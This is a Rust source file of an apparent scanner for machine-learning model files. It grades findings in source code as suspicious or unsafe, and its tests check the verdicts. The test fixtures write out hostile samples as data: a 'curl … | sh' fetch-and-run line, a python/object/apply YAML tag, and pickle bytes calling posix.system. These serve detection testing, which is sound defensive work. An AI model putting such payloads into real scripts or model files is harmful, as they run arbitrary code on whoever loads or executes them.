use std::path::Path;
use std::sync::Arc;

use sealyard_core::{Digest, ReadAt, Severity, TreePath};
use sealyard_scan::{Report, RuleMetadata, SubjectReport, Tool};

use crate::exclude::Exclude;
use crate::{allow, inspect, parallel, rules, walk};

/// Rules about what harms when somebody runs it, and not when a model is loaded.
const OF_SOURCE: &[&str] = &["python-harmful-call", "requirements-source", "script-harmful-command", "yaml-python-tag"];

/// Looks at model files. Cheap to make, without state.
#[derive(Debug, Clone, Default)]
pub struct Scanner {
    digests: bool,
    pub(crate) exclude: Exclude,
}

impl Scanner {
    /// A scanner with all rules.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether reports carry the digest of each file, which means reading every byte.
    #[must_use]
    pub fn with_digests(mut self, digests: bool) -> Self {
        self.digests = digests;
        self
    }

    /// Leaves out files and folders below the one that is scanned: by name at any depth or, where a pattern has a slash, by path.
    ///
    /// # Errors
    /// [`glob::PatternError`].
    pub fn excluding(mut self, patterns: &[String]) -> Result<Self, glob::PatternError> {
        self.exclude = Exclude::parse(patterns)?;
        Ok(self)
    }

    /// Whether a file or folder of this name is left out.
    #[must_use]
    pub fn leaves_out(&self, path: &Path) -> bool {
        path.file_name().is_some_and(|name| self.exclude.is_out(&name.to_string_lossy()))
    }

    /// Looks at one file. `path` is what the report calls it; its content alone decides what it is.
    #[must_use]
    pub fn scan_file(&self, path: &str, data: &dyn ReadAt) -> SubjectReport {
        let mut report = inspect::file(path, data);
        if self.digests {
            match digest(data) {
                Ok(digest) => report.digest = Some(digest),
                Err(error) => return SubjectReport::unread(path, "unknown", format!("could not be read: {error}")),
            }
        }
        report
    }

    /// Looks at one file that may be a part of a model or may be none, such as a training script that is kept with a run. Source code,
    /// scripts and lists of requirements do nothing until somebody runs them: what is found in them is no more than suspicious
    /// here. As a part of a model they are looked at by [`Self::scan_folder`].
    #[must_use]
    pub fn scan_arrival(&self, path: &str, data: &dyn ReadAt) -> SubjectReport {
        self.scan_file(path, data).at_most(Severity::Medium, |finding| {
            OF_SOURCE.contains(&finding.rule.as_str())
                // A program under the name of a model is there to be started.
                || (finding.rule == "executable-file" && finding.severity < Severity::Critical)
        })
    }

    /// Looks at all files of a model folder, and at the folder as a whole.
    #[must_use]
    pub fn scan_folder(&self, files: &[(TreePath, Arc<dyn ReadAt>)]) -> Report {
        let looked = parallel::each(files.len(), |index| {
            files.get(index).map(|(path, data)| self.scan_file(path.as_str(), data))
        });
        let mut subjects: Vec<_> = files
            .iter()
            .zip(looked)
            .map(|((path, _), report)| report.flatten().unwrap_or_else(|| parallel::failed(path.as_str())))
            .collect();
        inspect::folder(files, &mut subjects);
        Report::new(Self::tool(), subjects)
    }

    /// Looks at a file or at everything below a directory. Symbolic links that lead out of it, devices and what cannot be read are
    /// reported as not assessed and never followed.
    #[must_use]
    pub fn scan_path(&self, path: &Path) -> Report {
        walk::scan(self, path)
    }

    /// The rules, in the order of their ids.
    pub fn rules() -> impl Iterator<Item = &'static RuleMetadata> {
        rules::all().into_iter()
    }

    /// Version and digest of the rules and of the allow-list data: two scans that agree in it looked for the same.
    #[must_use]
    pub fn ruleset() -> String {
        let mut text = String::new();
        for rule in Self::rules() {
            text.push_str(&format!("{} {} {}\n", rule.id, rule.severity, rule.summary));
        }
        for (name, content) in allow::DATA {
            text.push_str(&format!("{name} {}\n", Digest::of(content.as_bytes())));
        }
        let digest = Digest::of(text.as_bytes()).to_hex();
        format!("{}+{}", env!("CARGO_PKG_VERSION"), digest.get(..16).unwrap_or_default())
    }

    /// What looks.
    #[must_use]
    pub fn tool() -> Tool {
        Tool { name: "sealyard".to_owned(), version: env!("CARGO_PKG_VERSION").to_owned(), rules: Self::ruleset() }
    }
}

fn digest(data: &dyn ReadAt) -> std::io::Result<Digest> {
    let mut hasher = sealyard_core::Hasher::default();
    let mut buffer = vec![0; 1 << 16];
    let mut offset = 0;
    loop {
        let read = data.read_at(offset, &mut buffer)?;
        if read == 0 {
            return Ok(hasher.finish());
        }
        hasher.update(buffer.get(..read).unwrap_or_default());
        offset += read as u64;
    }
}

#[cfg(test)]
mod tests {
    use sealyard_core::Verdict;

    use super::*;

    #[test]
    fn source_code_that_arrives_is_no_more_than_suspicious() {
        assert!(OF_SOURCE.iter().all(|name| Scanner::rules().any(|rule| rule.id == *name)));
        let scanner = Scanner::new();
        for (path, content) in [
            ("train.py", b"import subprocess\nsubprocess.run(['nvidia-smi'])\n".as_slice()),
            ("run.sh", b"#!/bin/sh\ncurl -s https://example.org/a | sh\n"),
            ("metrics.yaml", b"a: !!python/object/apply:numpy.core.multiarray.scalar [1]\n"),
        ] {
            assert_eq!(scanner.scan_file(path, &content).verdict, Verdict::Unsafe, "{path}");
            assert_eq!(scanner.scan_arrival(path, &content).verdict, Verdict::Suspicious, "{path}");
        }
        for (path, content) in [
            ("train.py", b"\x80\x02cposix\nsystem\nU\x04true\x85R.".as_slice()),
            ("model.pkl", b"import os\nos.system('true')\n"),
            ("model.bin", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0"),
        ] {
            assert_ne!(scanner.scan_arrival(path, &content).verdict, Verdict::Safe, "{path}");
        }
        assert_eq!(scanner.scan_arrival("x.py", &b"cposix\nsystem\n(S'true'\ntR.".as_slice()).verdict, Verdict::Unsafe);
    }
}
